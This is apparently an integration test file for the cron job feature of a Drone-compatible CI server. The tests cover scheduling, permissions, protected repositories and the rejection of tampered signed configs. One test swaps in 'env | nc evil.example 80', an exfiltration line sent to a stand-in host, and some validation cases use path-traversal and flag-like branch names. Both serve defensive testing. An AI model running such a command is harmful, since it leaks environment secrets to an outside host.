"""Cron jobs through a real server: Drone's API, a job builds the head of its own branch
through the trigger (so protected repositories hold it), due jobs fire once (also after a
long downtime), disabled jobs and BASTION_CRON_DISABLED do not fire, failures are recorded
on the job, and only writers manage jobs."""

from __future__ import annotations

import time
from collections.abc import Callable
from typing import Any

from tests.integration.server._support import PIPELINE, Checkout, FakeRunner, Harness, wait_for

from bastion.rpc.messages import StageDetails

CRON = "/api/repos/acme/web/cron"

ENV_PIPELINE = b"""\
kind: pipeline
type: docker
name: nightly
trigger:
  event: [cron]
  cron: [nightly]
steps:
- name: test
  image: busybox
  commands: [echo $DRONE_CRON]
"""


def two_branches(server: Harness) -> tuple[Checkout, str, str]:
    """A repository whose main and release branches hold different commits."""
    checkout = server.local_repo()
    main = checkout.commit({".drone.yml": ENV_PIPELINE}, "main")
    checkout.push("main")
    release = checkout.commit({"notes.txt": b"release\n"}, "Release notes")
    checkout.push("release")
    return checkout, main, release


def make_due(server: Harness, name: str, *, ago: int = 5) -> None:
    repo = server.ctx.store.get_repo("acme", "web")
    assert repo is not None
    cron = server.ctx.store.get_cron(repo.id, name)
    assert cron is not None
    server.ctx.store.update_cron(cron.id, next=int(time.time()) - ago)


def cron_builds(server: Harness) -> list[dict[str, Any]]:
    return [b for b in server.builds() if b["event"] == "cron"]


def test_drone_api_create_list_info_update_delete(server: Harness) -> None:
    server.local_repo()
    api = server.admin
    created = api.post(CRON, json={"name": "nightly", "expr": "0 0 3 * * *"})
    assert created.status_code == 201, created.text
    body = created.json()
    assert body["name"] == "nightly"
    assert body["expr"] == "0 0 3 * * *"
    assert body["branch"] == "main"  # the repository's default branch
    assert body["disabled"] is False
    assert body["prev"] == 0
    assert body["next"] > time.time()
    assert time.gmtime(body["next"]).tm_hour == 3  # seconds first, as Drone
    assert time.gmtime(body["next"]).tm_min == 0

    assert api.post(CRON, json={"name": "hourly", "expr": "@hourly"}).status_code == 201
    assert api.post(CRON, json={"name": "five", "expr": "15 4 * * 1"}).status_code == 201
    assert [c["name"] for c in api.get(CRON).json()] == ["five", "hourly", "nightly"]
    assert api.get(f"{CRON}/nightly").json()["expr"] == "0 0 3 * * *"

    again = api.post(CRON, json={"name": "nightly", "expr": "@daily"})
    assert again.status_code == 409
    assert "nightly" in again.json()["message"]

    patched = api.patch(f"{CRON}/nightly", json={"branch": "release", "disabled": True})
    assert patched.status_code == 200
    assert (patched.json()["branch"], patched.json()["disabled"]) == ("release", True)
    assert api.delete(f"{CRON}/hourly").status_code == 204
    assert api.get(f"{CRON}/hourly").status_code == 404
    assert api.delete(f"{CRON}/hourly").status_code == 404
    assert api.post(f"{CRON}/hourly").status_code == 404

    kinds = [e["kind"] for e in api.get("/api/audit", params={"kind": "cron."}).json()]
    assert sorted(set(kinds)) == ["cron.created", "cron.deleted", "cron.updated"]


def test_bad_input_is_a_400_naming_the_field(server: Harness) -> None:
    server.local_repo()
    api = server.admin
    cases = [
        ({"name": "x", "expr": "* * *"}, "field expr"),
        ({"name": "x", "expr": "61 * * * *"}, "field expr"),
        ({"name": "x", "expr": "@every 5m"}, "field expr"),
        ({"name": "x", "expr": "0 0 * * * * *"}, "field expr"),
        ({"name": "x", "expr": "@daily", "branch": "../main"}, "field branch"),
        ({"name": "x", "expr": "@daily", "branch": "-f"}, "field branch"),
        ({"name": "a b", "expr": "@daily"}, "body field name"),
        ({"name": "x"}, "body field expr"),
        ({"name": "x", "expr": "@daily", "when": "now"}, "body field when"),
    ]
    for body, where in cases:
        response = api.post(CRON, json=body)
        assert response.status_code == 400, (body, response.text)
        assert where in response.json()["message"], (body, response.json())
    assert api.get(CRON).json() == []
    api.post(CRON, json={"name": "ok", "expr": "@daily"}).raise_for_status()
    response = api.patch(f"{CRON}/ok", json={"expr": "not a cron"})
    assert response.status_code == 400
    assert "field expr" in response.json()["message"]


def test_exec_builds_the_head_of_the_jobs_branch_with_drone_cron(server: Harness) -> None:
    _checkout, main, release = two_branches(server)
    server.admin.post(CRON, json={"name": "nightly", "expr": "@daily", "branch": "release"})
    response = server.admin.post(f"{CRON}/nightly")
    assert response.status_code == 200, response.text
    build = response.json()
    assert build["event"] == "cron"
    assert build["cron"] == "nightly"
    assert build["after"] == release != main
    assert build["target"] == "release"
    assert build["ref"] == "refs/heads/release"
    assert build["message"] == "Release notes"
    assert (build["trigger"], build["sender"]) == ("admin", "admin")  # started by hand
    assert build["status"] == "pending"  # the trigger matched event cron, name nightly


def test_the_stage_carries_the_cron_name(server: Harness) -> None:
    two_branches(server)
    server.admin.post(CRON, json={"name": "nightly", "expr": "@daily", "branch": "release"})
    server.admin.post(f"{CRON}/nightly").raise_for_status()
    runner = FakeRunner(server, "r1")
    lease = runner.poll()
    assert lease is not None
    stage = StageDetails.model_validate_json(runner.details(lease.stage_id, lease).content)
    assert stage.build.event == "cron"
    assert stage.build.cron == "nightly"


def test_a_missing_branch_is_a_400_and_is_recorded_on_the_job(server: Harness) -> None:
    two_branches(server)
    server.admin.post(CRON, json={"name": "gone", "expr": "@daily", "branch": "deleted"})
    response = server.admin.post(f"{CRON}/gone")
    assert response.status_code == 400
    assert "no branch 'deleted'" in response.json()["message"]
    assert "no branch 'deleted'" in server.admin.get(f"{CRON}/gone").json()["error"]
    assert cron_builds(server) == []


def test_a_due_job_fires_once_on_its_branch_and_a_missed_day_fires_once(
    make_server: Callable[..., Harness],
) -> None:
    server = make_server(cron_interval=0.1)
    _checkout, _main, release = two_branches(server)
    server.admin.post(CRON, json={"name": "nightly", "expr": "0 * * * *", "branch": "release"})
    before = server.admin.get(f"{CRON}/nightly").json()
    make_due(server, "nightly", ago=24 * 3600)  # the server "was down" for a day

    builds = wait_for(lambda: cron_builds(server))
    job = wait_for(lambda: (j := server.admin.get(f"{CRON}/nightly").json())["prev"] and j)
    # the loop keeps running; the job is not due again before the next hour
    assert job["next"] > time.time()
    assert job["next"] % 3600 == 0
    assert job["next"] >= before["next"]
    more = server.admin.post(CRON, json={"name": "probe", "expr": "@hourly", "branch": "main"})
    more.raise_for_status()
    make_due(server, "probe")
    wait_for(lambda: len(cron_builds(server)) == 2)  # a later round ran, nightly stayed put
    assert len(builds) == 1
    nightly = [b for b in cron_builds(server) if b["cron"] == "nightly"]
    assert len(nightly) == 1
    assert nightly[0]["after"] == release
    assert nightly[0]["trigger"] == "@cron"
    fired = server.admin.get("/api/audit", params={"kind": "cron.fired"}).json()
    assert sorted(e["detail"]["cron"] for e in fired) == ["nightly", "probe"]


def test_disabled_jobs_do_not_fire(make_server: Callable[..., Harness]) -> None:
    server = make_server(cron_interval=0.1)
    two_branches(server)
    server.admin.post(CRON, json={"name": "off", "expr": "@hourly", "disabled": True})
    server.admin.post(CRON, json={"name": "on", "expr": "@hourly"})
    make_due(server, "off")
    make_due(server, "on")
    wait_for(lambda: cron_builds(server))
    wait_for(lambda: server.admin.get(f"{CRON}/on").json()["prev"])
    # the round that fired "on" saw "off" due too, and skipped it
    assert [b["cron"] for b in cron_builds(server)] == ["on"]
    assert server.admin.get(f"{CRON}/off").json()["prev"] == 0
    # enabling it schedules it from now: what it missed while disabled does not fire
    enabled = server.admin.patch(f"{CRON}/off", json={"disabled": False}).json()
    assert enabled["next"] > time.time()


def test_cron_disabled_setting_stops_the_loop_but_not_the_api(
    make_server: Callable[..., Harness],
) -> None:
    server = make_server(cron_interval=0.05, cron_disabled=True)
    two_branches(server)
    server.admin.post(CRON, json={"name": "nightly", "expr": "@hourly"}).raise_for_status()
    make_due(server, "nightly")
    deadline = time.monotonic() + 1.0  # twenty rounds of an enabled loop
    while time.monotonic() < deadline:
        assert cron_builds(server) == []
        time.sleep(0.1)
    assert server.admin.get(f"{CRON}/nightly").json()["prev"] == 0
    assert server.admin.post(f"{CRON}/nightly").status_code == 200  # exec still works


def test_a_cron_build_of_a_protected_repository_is_held_like_any_other(server: Harness) -> None:
    two_branches(server)
    server.admin.patch("/api/repos/acme/web", json={"protected": True}).raise_for_status()
    server.admin.post(CRON, json={"name": "nightly", "expr": "@daily"})
    build = server.admin.post(f"{CRON}/nightly").json()
    assert build["status"] == "blocked"
    assert build["hold"] == "signature"
    assert FakeRunner(server, "r1").poll(wait=0.5) is None


def test_a_cron_build_is_refused_what_the_trust_policy_refuses(server: Harness) -> None:
    checkout = server.local_repo()
    privileged = PIPELINE.replace(b"  image: busybox\n", b"  image: busybox\n  privileged: true\n")
    checkout.commit({".drone.yml": privileged}, "privileged")
    checkout.push()
    server.admin.post(CRON, json={"name": "nightly", "expr": "@daily"})
    build = server.admin.post(f"{CRON}/nightly").json()
    assert build["status"] == "error"
    assert "privileged" in build["error"]


def test_only_writers_manage_jobs(server: Harness) -> None:
    two_branches(server)
    server.admin.post(CRON, json={"name": "nightly", "expr": "@daily"}).raise_for_status()
    reader = server.client(server.user_token("alice"))
    for method, url, body in [
        ("GET", CRON, None),
        ("POST", CRON, {"name": "mine", "expr": "* * * * * *"}),
        ("GET", f"{CRON}/nightly", None),
        ("PATCH", f"{CRON}/nightly", {"branch": "evil"}),
        ("DELETE", f"{CRON}/nightly", None),
        ("POST", f"{CRON}/nightly", None),
    ]:
        response = reader.request(method, url, json=body)
        # 403, or 404 where the user may not even see the repository
        assert response.status_code in (403, 404), (method, url, response.text)
    assert server.client().get(CRON).status_code == 401
    job = server.admin.get(f"{CRON}/nightly").json()
    assert (job["branch"], job["disabled"]) == ("main", False)
    assert cron_builds(server) == []


def test_a_cron_build_runs_a_signed_config_and_holds_a_tampered_one(server: Harness) -> None:
    from bastion.crypto.config_signature import with_signature

    checkout = server.local_repo()
    server.admin.patch("/api/repos/acme/web", json={"protected": True}).raise_for_status()
    signature = server.admin.post(
        "/api/repos/acme/web/sign", json={"data": ENV_PIPELINE.decode()}
    ).json()["data"]
    signed = with_signature(ENV_PIPELINE, signature)
    checkout.commit({".drone.yml": signed}, "signed")
    checkout.push()
    server.admin.post(CRON, json={"name": "nightly", "expr": "@daily"}).raise_for_status()
    good = server.admin.post(f"{CRON}/nightly").json()
    assert good["status"] == "pending", good["error"]

    # The same signature under an edited command (a replay onto other content): held.
    tampered = signed.replace(b"echo $DRONE_CRON", b"env | nc evil.example 80")
    assert tampered != signed
    checkout.commit({".drone.yml": tampered}, "tampered")
    checkout.push()
    held = server.admin.post(f"{CRON}/nightly").json()
    assert (held["status"], held["hold"]) == ("blocked", "signature")
    assert "does not match its text" in held["error"]


def test_drone_clients_bodies_are_accepted(server: Harness) -> None:
    """drone-go marshals its whole Cron struct: the server's own fields come along."""
    server.local_repo()
    drone_body = {
        "id": 0,
        "repo_id": 0,
        "name": "nightly",
        "expr": "0 0 3 * * *",
        "next": 0,
        "prev": 0,
        "event": "push",
        "branch": "main",
        "disabled": False,
        "created": 0,
        "updated": 0,
    }
    created = server.admin.post(CRON, json=drone_body)
    assert created.status_code == 201, created.text
    assert created.json()["id"] > 0
    assert created.json()["next"] > time.time()
    patched = server.admin.patch(
        f"{CRON}/nightly", json={"event": "push", "branch": "release", "disabled": True}
    )
    assert patched.status_code == 200, patched.text
    refused = server.admin.post(CRON, json={**drone_body, "name": "deploy", "target": "prod"})
    assert refused.status_code == 400
    assert "body field target" in refused.json()["message"]


def test_a_stored_bad_expression_parks_the_job_and_the_round_goes_on(server: Harness) -> None:
    two_branches(server)
    store = server.ctx.store
    repo = store.get_repo("acme", "web")
    assert repo is not None
    bad = store.create_cron(
        repo.id, name="broken", expr="99 * * * *", branch="main", disabled=False, next_run=1
    )
    server.admin.post(CRON, json={"name": "good", "expr": "@hourly"}).raise_for_status()
    make_due(server, "good")
    assert server.ctx.cron.run_due() == 1
    parked = server.admin.get(f"{CRON}/broken").json()
    assert parked["disabled"] is True
    assert parked["error"].startswith("bad expression")
    assert [b["cron"] for b in cron_builds(server)] == ["good"]
    assert bad.id == parked["id"]
